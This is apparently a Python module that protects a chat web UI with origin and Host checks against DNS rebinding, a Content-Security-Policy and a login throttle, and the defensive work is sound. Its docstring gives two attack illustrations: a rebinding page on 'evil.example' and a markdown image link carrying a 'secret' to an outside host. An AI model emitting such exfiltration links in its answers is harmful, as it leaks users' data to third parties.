"""Web security of the chat UI: the origin check, security headers and the login throttle.

    install(http_app, settings)         # app.py: one ASGI middleware in front of HTTP and the websocket
    WebSecurityMiddleware(asgi_app, allowed_origins=(), throttle=LoginThrottle())
    login_refused_note(settings, name)  # what the log says about a refused login (never the typed name)

- **Origin.** A browser names the page that made a request in ``Origin`` (every websocket upgrade, every
  socket.io polling request, every fetch that is not a plain GET). A request whose ``Origin`` is not the
  UI's own (``scheme://Host``, compared as scheme + host + port) is refused (403; a websocket is closed
  before it is accepted), or, when ``[ui] allowed_origins`` is set, one not in that list. Chainlit's
  socket server has no origin check of its own, so this middleware wraps the socket.io mount too.
  Requests without ``Origin`` (scripts, curl) pass on to the normal login rules. ``X-Forwarded-*``
  headers are believed only from ``[ui] trusted_proxies`` (uvicorn applies them before this middleware;
  the launcher sets its ``FORWARDED_ALLOW_IPS``, empty by default): behind a TLS proxy, list the public
  origin in ``allowed_origins``.
  Each refused origin is logged once (with the origin).
- **Host (DNS rebinding).** A page on ``http://evil.example:8080`` whose name the attacker points at
  127.0.0.1 is same-origin with itself: its requests carry ``Host: evil.example:8080`` and, for a plain
  GET, no ``Origin`` at all. So while the UI listens on loopback, only loopback names (``localhost``,
  ``*.localhost``, 127.0.0.0/8, ``[::1]``) and the hosts of ``[ui] allowed_origins`` are served; any
  other ``Host`` is refused (403, logged once).
- **Headers.** Every HTTP answer gets a Content-Security-Policy (images only from the app itself or
  ``data:``: a model answer with ``![x](http://elsewhere/?secret)`` cannot make the browser call out; of
  inline scripts only a page's own, by their SHA-256, not 'unsafe-inline'),
  ``frame-ancestors 'none'`` (+ ``X-Frame-Options``), ``X-Content-Type-Options: nosniff`` and a
  same-origin referrer policy.
- **Login throttle.** ``POST /login`` is counted per client address (from a trusted proxy, the client its
  X-Forwarded-For names; else the peer): after ``free`` failures each further attempt must wait, the wait
  doubling (``base_delay`` … ``max_delay``); an attempt that comes too early is refused at once with 429,
  ``Retry-After`` and a clear message (no sleeping: nothing is held open, the event loop and open chats are
  not slowed). A successful login clears the address.

A plain ASGI class like ``preferences.BrowserCookieMiddleware`` (Starlette's BaseHTTPMiddleware does not
see websockets). No Chainlit import: ``install`` only touches the Starlette app's middleware list.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import logging
import re
import time
from collections import OrderedDict
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

from ..settings import Settings, canonical_origin, is_loopback
from ..text import pick_language, t

logger = logging.getLogger(__name__)

LOGIN_PATH = "/login"
MAX_LOGGED_ORIGINS = 1000  # refused origins remembered for "logged once"; then logging stops growing

#: What Chainlit 2.12's single-page app needs, and no more. Its index.html inlines two small scripts (one holds
#: the theme and transports Chainlit injects): an HTML page gets the hashes of its own inline scripts in
#: ``script-src`` (``csp_for``), so no other inline script runs (no 'unsafe-inline'). It links Google Fonts and
#: KaTeX's stylesheet (jsdelivr); the socket.io client connects to the page's own origin ('self' covers ws:/wss:
#: to it in current browsers). Images: the app's own (avatars, logo, elements) and data:/blob: URLs, nothing remote.
_POLICY = (
    "default-src 'self'",
    "{script_src}",
    "style-src 'self' 'unsafe-inline' https://fonts.googleapis.com https://cdn.jsdelivr.net",
    "font-src 'self' data: https://fonts.gstatic.com https://cdn.jsdelivr.net",
    "img-src 'self' data: blob:",
    "media-src 'self' data: blob:",
    "connect-src 'self'",
    "worker-src 'self' blob:",
    "frame-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
)
_INLINE_SCRIPT = re.compile(rb"<script\b(?![^>]*\bsrc\s*=)[^>]*>(.*?)</script\s*>", re.S | re.I)
MAX_HASHED_PAGE = 1 << 20  # bytes of an HTML page read for its inline scripts; a bigger one gets none allowed


def csp_for(html: bytes | None = None) -> bytes:
    """The Content-Security-Policy of an answer: for an HTML page, its own inline scripts allowed by their
    SHA-256 (CSP level 2); nothing inline otherwise."""
    hashes = sorted(
        {
            "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"
            for body in _INLINE_SCRIPT.findall(html or b"")
        }
    )
    return "; ".join(_POLICY).format(script_src=" ".join(["script-src 'self'", *hashes])).encode()


CONTENT_SECURITY_POLICY = csp_for().decode()  # of every answer that is not an HTML page
SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"x-frame-options", b"DENY"),
    (b"referrer-policy", b"same-origin"),
)


def _header_of(message: dict[str, Any], name: bytes) -> str:
    """A header of an ASGI response start message, lower-cased ("" when absent)."""
    for key, value in message.get("headers") or []:
        if key.lower() == name:
            return bytes(value).decode("latin-1").strip().lower()
    return ""


def _decoded(body: bytes, encoding: str) -> bytes:
    """An HTML body as sent (Chainlit gzips pages); b"" when it cannot be read (then no inline script runs)."""
    if encoding in ("", "identity"):
        return body
    if encoding == "gzip":
        try:
            return gzip.decompress(body)
        except (OSError, EOFError):
            return b""
    return b""


def host_name(host_header: str) -> str:
    """The name in a Host header, without the port: "[::1]:8080" -> "::1", "Chat.Local:80" -> "chat.local"."""
    host = host_header.strip().lower()
    if host.startswith("["):
        return host[1 : host.find("]")] if "]" in host else host
    return host.rsplit(":", 1)[0] if host.count(":") == 1 else host


def is_loopback_name(name: str) -> bool:
    return is_loopback(name) or name.endswith(".localhost")


def _header(scope: dict[str, Any], name: bytes) -> str | None:
    for key, value in scope.get("headers") or []:
        if key.lower() == name:
            return bytes(value).decode("latin-1")
    return None


def own_origin(scope: dict[str, Any]) -> str | None:
    """The origin the request was sent to: its scheme (X-Forwarded-Proto only from a trusted proxy) and its Host."""
    host = _header(scope, b"host")
    if not host:
        return None
    scheme = {"ws": "http", "wss": "https"}.get(scope.get("scheme") or "http", scope.get("scheme") or "http")
    return canonical_origin(f"{scheme}://{host}")


# ---------------------------------------------------------------- login throttle


@dataclass
class _Attempts:
    failures: int = 0
    locked_until: float = 0.0
    last: float = 0.0


class LoginThrottle:
    """Failed logins per client address; a growing wait after ``free`` failures.

    Every attempt is counted as a failure when it starts (so a burst of parallel attempts cannot slip
    past the count while the first are still being checked); a successful login clears the address.
    """

    def __init__(
        self,
        *,
        free: int = 5,
        base_delay: float = 1.0,
        max_delay: float = 300.0,
        forget_after: float = 3600.0,
        max_clients: int = 10_000,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self.free, self.base_delay, self.max_delay = free, base_delay, max_delay
        self.forget_after, self.max_clients, self.clock = forget_after, max_clients, clock
        self._clients: OrderedDict[str, _Attempts] = OrderedDict()

    def delay_after(self, failures: int) -> float:
        """The wait imposed after ``failures`` failed attempts: 0 up to ``free``, then doubling."""
        if failures < self.free:
            return 0.0
        return float(min(self.max_delay, self.base_delay * 2 ** min(failures - self.free, 30)))

    def begin(self, client: str) -> float:
        """An attempt starts: 0 = go ahead (counted as failed until ``succeeded``), else seconds to wait."""
        now = self.clock()
        entry = self._clients.get(client)
        if entry is not None and now - entry.last > self.forget_after and now >= entry.locked_until:
            entry = None
        if entry is None:
            entry = _Attempts()
        self._clients[client] = entry
        self._clients.move_to_end(client)
        while len(self._clients) > self.max_clients:
            self._clients.popitem(last=False)
        if now < entry.locked_until:
            return entry.locked_until - now
        entry.failures += 1
        entry.last = now
        wait = self.delay_after(entry.failures)
        if wait:
            entry.locked_until = now + wait
            logger.warning(
                "login: %d failed attempts from %s; the next one is allowed in %.0f s", entry.failures, client, wait
            )
        return 0.0

    def succeeded(self, client: str) -> None:
        self._clients.pop(client, None)

    def failures(self, client: str) -> int:
        entry = self._clients.get(client)
        return entry.failures if entry else 0


def login_refused_note(settings: Settings, username: str) -> str:
    """How a refused login is logged: whether the name was the configured one, and a short fingerprint
    of what was typed (people type their password into the name field), never the name itself."""
    digest = hashlib.sha256(username.encode("utf-8", "surrogatepass")).hexdigest()[:10]
    known = username == settings.ui.username or username in settings.ui.users
    which = "a configured user name" if known else "an unknown user name"
    return f"{which} ({len(username)} characters, fingerprint {digest})"


# ---------------------------------------------------------------- the middleware


class WebSecurityMiddleware:
    """ASGI: origin check (HTTP and websocket), security headers, login throttle. See the module doc."""

    def __init__(
        self,
        app: Any,
        *,
        allowed_origins: Iterable[str] = (),
        throttle: LoginThrottle | None = None,
        language: str = "auto",
        login_path: str = LOGIN_PATH,
        loopback_only: bool = False,
    ) -> None:
        self.app = app
        allowed = [canonical_origin(o) for o in allowed_origins]
        self.allowed: frozenset[str] | None = frozenset(o for o in allowed if o) or None
        # Host names served besides loopback ones, when the UI listens on loopback (None: any Host).
        self.extra_hosts: frozenset[str] | None = (
            frozenset(host_name(o.split("://", 1)[1]) for o in self.allowed or ()) if loopback_only else None
        )
        self.throttle = throttle
        self.language = language
        self.login_path = login_path
        self._logged: set[str] = set()

    def origin_allowed(self, origin: str, scope: dict[str, Any]) -> bool:
        canonical = canonical_origin(origin)  # "null" (sandboxed frames, file:) is never allowed
        if canonical is None:
            return False
        if self.allowed is not None:
            return canonical in self.allowed
        return canonical == own_origin(scope)

    def host_allowed(self, host: str) -> bool:
        if self.extra_hosts is None:
            return True
        name = host_name(host)
        return is_loopback_name(name) or name in self.extra_hosts

    def _lang(self, scope: dict[str, Any]) -> str:
        if self.language != "auto":
            return self.language
        return pick_language(_header(scope, b"accept-language"))

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        kind = scope.get("type")
        if kind not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        host = _header(scope, b"host") or ""
        if not self.host_allowed(host):
            if self._first_time(f"host:{host}"):
                logger.warning(
                    "refused a %s request for Host %r: the UI listens on loopback, so only loopback names and the "
                    "hosts of [ui] allowed_origins are served (a DNS-rebinding page would use another name)",
                    scope.get("type"),
                    host[:200],
                )
            await self._refuse(scope, receive, send, host, key="security.host_refused")
            return
        origin = _header(scope, b"origin")
        if origin is not None and not self.origin_allowed(origin, scope):
            self._log_refused(origin, scope)
            await self._refuse(scope, receive, send, origin)
            return
        if kind == "websocket":
            await self.app(scope, receive, send)
            return
        send = self._with_headers(send)
        if self.throttle is not None and scope.get("method") == "POST" and scope.get("path") == self.login_path:
            await self._login(scope, receive, send, self.throttle)
            return
        await self.app(scope, receive, send)

    def _log_refused(self, origin: str, scope: dict[str, Any]) -> None:
        if not self._first_time(origin):
            return
        expected = ", ".join(sorted(self.allowed)) if self.allowed else f"the UI's own origin {own_origin(scope)}"
        logger.warning(
            "refused a %s request from origin %r (%s %s): only %s may use the UI; set [ui] allowed_origins to add one",
            scope.get("type"),
            origin,
            scope.get("method", "GET"),
            scope.get("path"),
            expected,
        )

    def _first_time(self, key: str) -> bool:
        if key in self._logged or len(self._logged) >= MAX_LOGGED_ORIGINS:
            return False
        self._logged.add(key)
        return True

    async def _refuse(
        self, scope: dict[str, Any], receive: Any, send: Any, origin: str, *, key: str = "security.origin_refused"
    ) -> None:
        if scope.get("type") == "websocket":
            message = await receive()  # websocket.connect; closing before accepting answers HTTP 403
            if message.get("type") == "websocket.connect":
                await send({"type": "websocket.close", "code": 1008})
            return
        body = t(key, self._lang(scope), origin=origin[:200]).encode()
        await _plain(send, 403, body, [(b"content-type", b"text/plain; charset=utf-8")])

    def _with_headers(self, send: Any) -> Any:
        """``send`` with the security headers added; an HTML page is held until its body is whole (up to
        ``MAX_HASHED_PAGE``) so its policy can name the hashes of its inline scripts."""
        held: dict[str, Any] = {}
        body: list[bytes] = []

        def start(message: dict[str, Any], html: bytes | None) -> dict[str, Any]:
            headers = list(message.get("headers") or [])
            have = {k.lower() for k, _ in headers}
            policy = csp_for(html) if html is not None else CONTENT_SECURITY_POLICY.encode()
            headers += [
                (k, policy if k == b"content-security-policy" else v) for k, v in SECURITY_HEADERS if k not in have
            ]
            return {**message, "headers": headers}

        async def send_with_headers(message: dict[str, Any]) -> None:
            kind = message.get("type")
            if kind == "http.response.start":
                if _header_of(message, b"content-type").startswith("text/html"):
                    held["start"] = message  # sent with the body, once its inline scripts are known
                    return
                message = start(message, None)
            elif kind == "http.response.body" and "start" in held:
                body.append(message.get("body", b""))
                more = message.get("more_body", False)
                size = sum(map(len, body))
                if more and size <= MAX_HASHED_PAGE:
                    return
                page = b"".join(body)
                html = (
                    _decoded(page, _header_of(held["start"], b"content-encoding")) if size <= MAX_HASHED_PAGE else b""
                )
                await send(start(held.pop("start"), html))
                message = {**message, "body": page}
            await send(message)

        return send_with_headers

    async def _login(self, scope: dict[str, Any], receive: Any, send: Any, throttle: LoginThrottle) -> None:
        client = (scope.get("client") or ("unknown", 0))[0]
        wait = throttle.begin(client)
        if wait > 0:
            seconds = max(1, int(wait + 0.999))
            detail = t("security.login_throttled", self._lang(scope), seconds=seconds)
            # Chainlit's login page shows {"detail"} of a failed POST /login in a toast.
            body = json.dumps({"detail": detail}, ensure_ascii=False).encode()
            headers = [(b"content-type", b"application/json"), (b"retry-after", str(seconds).encode())]
            await _plain(send, 429, body, headers)
            return

        async def watch(message: dict[str, Any]) -> None:
            if message.get("type") == "http.response.start" and 200 <= int(message.get("status", 0)) < 300:
                throttle.succeeded(client)
            await send(message)

        await self.app(scope, receive, watch)


async def _plain(send: Any, status: int, body: bytes, headers: list[tuple[bytes, bytes]]) -> None:
    headers = [*headers, (b"content-length", str(len(body)).encode())]
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})


def install(http_app: Any, settings: Settings, *, throttle: LoginThrottle | None = None) -> None:
    """Put the middleware in front of everything (Chainlit's routes and its socket.io mount); make
    Chainlit's CORS answer only the allowed origins (its config.toml says "*"). Idempotent."""
    origins = [o for o in (canonical_origin(x) for x in settings.ui.allowed_origins) if o]
    cors_origins = [o.removesuffix(":443") if o.startswith("https:") else o.removesuffix(":80") for o in origins]
    for middleware in http_app.user_middleware:
        if getattr(middleware.cls, "__name__", "") == "CORSMiddleware":
            middleware.kwargs["allow_origins"] = cors_origins
    if any(m.cls is WebSecurityMiddleware for m in http_app.user_middleware):
        return
    http_app.add_middleware(
        WebSecurityMiddleware,
        allowed_origins=origins,
        throttle=throttle or (LoginThrottle() if settings.ui.auth else None),
        language=settings.ui.language,
        loopback_only=is_loopback(settings.server.ui_host),
    )
